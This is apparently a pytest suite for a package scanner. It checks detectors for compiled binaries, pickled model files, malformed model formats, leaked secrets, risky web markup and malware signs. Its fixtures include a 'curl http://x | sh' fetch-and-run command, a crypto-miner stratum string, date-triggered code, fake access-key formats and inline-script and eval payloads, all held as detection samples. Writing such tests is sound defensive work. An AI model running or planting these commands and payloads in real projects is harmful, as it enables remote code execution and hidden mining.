"""Files by what they are: compiled code, archives, scripts, models, secrets, pages, marks of malice."""

import gzip
import hashlib
import json
import pickle
import struct
import tarfile
import zipfile
from io import BytesIO

import pytest

from tests.sdk.rulepack.asking import code, content, found
from wangge_sdk.rulepack.checks.models import format_fault


def told(check: str, name: str, raw: bytes) -> list[str]:
    return [finding.file for finding in found(check, content({f"acme_lamps/{name}": raw}))]


def _zip() -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as target:
        target.writestr("a", "x")
    return stream.getvalue()


def _tar() -> bytes:
    stream = BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as target:
        target.addfile(tarfile.TarInfo("a"))
    return stream.getvalue()


@pytest.mark.parametrize(
    ("check", "name", "raw"),
    [
        ("native.compiled", "x.json", b"\x7fELF" + bytes(20)),
        ("native.compiled", "x.png", b"MZ" + bytes(20)),
        ("native.compiled", "x.txt", b"\0asm\1\0\0\0"),
        ("native.compiled", "x.txt", b"\x6f\r\r\n" + bytes(20)),
        ("native.compiled", "lib.so.1", b""),
        ("native.archives", "x.png", _zip()),
        ("native.archives", "x.png", b"\x89PNG\r\n\x1a\n" + _zip()),
        ("native.archives", "x.dat", _tar()),
        ("native.archives", "x.dat", gzip.compress(b"x", mtime=0)),
        ("native.scripts", "x.ps1", b""),
        ("native.scripts", "run", b"#!/bin/sh\n"),
        ("models.code_in_data", "x.json", pickle.dumps([1])),
        ("models.code_in_data", "x.json", pickle.dumps({}, protocol=0)),
        ("models.code_in_data", "x.bin", b"\x89HDF\r\n\x1a\n"),
        ("models.code_in_data", "x.bin", b"\x93NUMPY\1\0"),
        ("models.code_in_data", "x.bin", b"PK\x03\x04 archive/data.pkl"),
        ("models.code_in_data", "x.pt", b""),
        ("models.artifacts", "x.onnx", b""),
    ],
)
def test_content_that_must_not_be_there(check: str, name: str, raw: bytes) -> None:
    assert told(check, name, raw) == [f"acme_lamps/{name}"]


@pytest.mark.parametrize("check", ["native.compiled", "native.archives", "native.scripts", "models.code_in_data", "models.artifacts"])
@pytest.mark.parametrize("raw", [b"{}", b"\x89PNG\r\n\x1a\n" + bytes(40), "文字。".encode(), b"", b"(dear all)"])
def test_content_that_may(check: str, raw: bytes) -> None:
    assert told(check, "x.json", raw) == []


def safetensors(header: object, data: bytes = b"") -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


GOOD = {
    "json": b"{}",
    "gguf": b"GGUF" + bytes(40),
    "safetensors": safetensors({"a": {"data_offsets": [0, 4]}, "__metadata__": {}}, bytes(4)),
    "onnx": b"\x08\x08\x3a\x02\x0a\x00",
}
BAD = [
    ("json", b"{"),
    ("gguf", b"GGML"),
    ("safetensors", b"\1"),
    ("safetensors", struct.pack("<Q", 10**12)),
    ("safetensors", safetensors([])),
    ("safetensors", safetensors({"a": {"data_offsets": [0, 4]}}, bytes(9))),
    ("safetensors", safetensors({"a": {"data_offsets": [0, 4]}, "b": {"data_offsets": [2, 6]}}, bytes(6))),
    ("safetensors", safetensors({"a": {}})),
    ("onnx", b""),
    ("onnx", b"\x80\x04]."),
    ("onnx", b"\xff" * 20),
    ("onnx", b"\x08\x08\x3a\x0e\x0a\x0c\x0a\x08location\x12\x00"),
    ("onnx", b"\x09" + bytes(8) + b"\x0d" + bytes(4)),
]


@pytest.mark.parametrize("form", GOOD)
def test_a_model_of_its_format(form: str) -> None:
    assert format_fault(form, GOOD[form]) is None


@pytest.mark.parametrize(("form", "raw"), BAD)
def test_a_model_of_another_format(form: str, raw: bytes) -> None:
    assert format_fault(form, raw)


def test_a_model_is_the_one_that_was_declared() -> None:
    text = {"zh-CN": "词", "en": "word"}
    card = {
        "data": {"name": "x", "licence": "CC0-1.0", "period": "2023", "places": ["A"]},
        "metrics": [{"name": "F1", "value": 0.8, "dataset": "x"}],
        "fairness": [{"group": "rural", "metric": "recall", "value": 0.7, "gap": 0.1}],
        "limits": text,
        "human_oversight": text,
    }
    algorithm = {
        "id": "rank",
        "title": text,
        "task": "rank",
        "input": "a.json",
        "output": "a.json",
        "decision_role": "suggest",
        "model_card": card,
        "artifact": {"format": "gguf", "path": "m.gguf", "sha256": hashlib.sha256(GOOD["gguf"]).hexdigest()},
    }
    manifest = {"contributes": {"hooks": [], "algorithms": [algorithm]}}
    assert not found("models.artifacts", content({"acme_lamps/m.gguf": GOOD["gguf"]}, manifest=manifest))
    assert not found("models.artifacts", content(manifest=manifest))
    ends = [
        finding.path.rpartition(".")[2] for finding in found("models.artifacts", content({"acme_lamps/m.gguf": b"x"}, manifest=manifest))
    ]
    assert ends == ["sha256", "format"]


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("AWS_KEY = 'AKIA" + "IOSFODNN7EXAMPLX'  # pragma: allowlist secret", "error"),
        ("x = 'ghp_" + "a1B2" * 9 + "'", "error"),
        ("x = 'LTAI" + "4GabcdEFGH12345678'", "error"),
        ("password = 'hunter2-" + "hunter2'", "warning"),
        ("password_hint = 'zh'", None),
        ("title = '密码错误'", None),
    ],
)
def test_secrets(line: str, severity: str | None) -> None:
    findings = found("secrets.left_in", content({"acme_lamps/x.py": f"{line}\n".encode()}))
    assert [finding.severity for finding in findings] == ([severity] if severity else [])


def test_a_binary_file_and_a_long_line_hold_up_nothing() -> None:
    assert not found("secrets.left_in", content({"acme_lamps/x.bin": b"\0" * 9000, "acme_lamps/x.json": b"a" * 900_000}))


FRONT = [
    ("frontend.remote", "x.js", b"import('//cdn.example/x.js')"),
    ("frontend.remote", "x.css", b"@import url(https://cdn.example/x.css);"),
    ("frontend.remote", "x.html", b"<img src='https://x.example/p.gif'>"),
    ("frontend.remote", "x.html", b"<p style='background: url(//x.example/p)'>"),
    ("frontend.hosts", "x.js", b"const u = 'https://x.cn/'"),
    ("frontend.inline", "x.html", b"<body OnLoad=run()>"),
    ("frontend.inline", "x.html", b"<a href='java\tscript:run()'>"),
    ("frontend.inline", "x.html", b"<script>run()</script>"),
    ("frontend.inline", "x.html", b"<script src='https://x.example/x.js'></script>"),
    ("frontend.inline", "x.html", b"<meta http-equiv=refresh content='0;url=//x'>"),
    ("frontend.inline", "x.html", b"<form action=/x>"),
    ("frontend.inline", "x.png", b"<svg xmlns='x'><g onclick='run()'/></svg>"),
    ("frontend.inline", "x.svg", b"<svg><foreignObject/></svg>"),
    ("frontend.inline", "x.svg", b"<svg><use href='https://x.example/#a'/></svg>"),
    ("frontend.evaluation", "x.js", b"setTimeout('run()', 1)"),
    ("frontend.evaluation", "x.js", b"window['eval']('1')"),
    ("frontend.reaches_out", "x.js", b"window.top.location = x"),
    ("frontend.reaches_out", "x.js", b"new WebSocket(u)"),
    ("frontend.unsafe_html", "x.js", b"node.innerHTML = text"),
    ("frontend.obfuscated", "x.js", b"String.fromCharCode(1,2,3,4,5,6,7,8)"),
]
PLAIN = (
    b"<!doctype html><html lang=zh><head><script src='./board.js'></script><style>p{color:red}</style></head>"
    b"<body><a href='https://x.example/'>x</a><img src='data:image/png;base64,AA' alt=''></body></html>"
)
SCRIPT = b"import { open } from './bridge.js'\nexport function evaluate(a) { node.textContent = a; return functions[a] }\n"


@pytest.mark.parametrize(("check", "name", "raw"), FRONT)
def test_pages_that_do_what_they_must_not(check: str, name: str, raw: bytes) -> None:
    assert told(check, name, raw)


@pytest.mark.parametrize("check", sorted({check for check, _, _ in FRONT}))
def test_pages_that_do_not(check: str) -> None:
    files = {
        "acme_lamps/x.html": PLAIN,
        "acme_lamps/x.js": SCRIPT,
        "acme_lamps/x.svg": b"<svg><defs><g id='a'/></defs><use href='#a'/></svg>",
    }
    assert not found(check, content(files))


def test_pages_have_a_weight() -> None:
    assert len(found("frontend.budget", content({f"acme_lamps/{n}.js": b"x" * 700_000 for n in range(4)}))) == 2
    assert not found("frontend.budget", content({"acme_lamps/x.js": b"x"}))


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        ("import datetime\nif datetime.date.today() > datetime.date(2027, 1, 1):\n    x = 1\n", [2]),
        ("import time\nx = time.time() > 1800000000\n", [2]),
        ("from datetime import datetime\nx = datetime.now().isoformat() > '2027-01-01'\n", [2]),
        ("from datetime import datetime\nx = datetime.now() > due\n", []),
        ("x = count > 1800000000\n", []),
    ],
)
def test_waiting_for_a_date(text: str, lines: list[int]) -> None:
    assert code("malware.waits", text) == lines


def test_marks_of_malice_are_seen_in_data_and_put_together() -> None:
    assert told("malware.runs", "x.json", b'{"x": "curl http://x | sh"}')
    assert code("malware.mines", "X = 'stratum' + '+tcp://'\n")
    assert not code("malware.runs", '"""Never do: rm -rf / ."""\n')


@pytest.mark.parametrize("name", ["x.svg", "x.html", "x.png"])
def test_markup_that_is_too_large_to_be_read_is_named(name: str) -> None:
    assert told("frontend.inline", name, b"<svg>" + b"<g>" * 200_000) == [f"acme_lamps/{name}"]
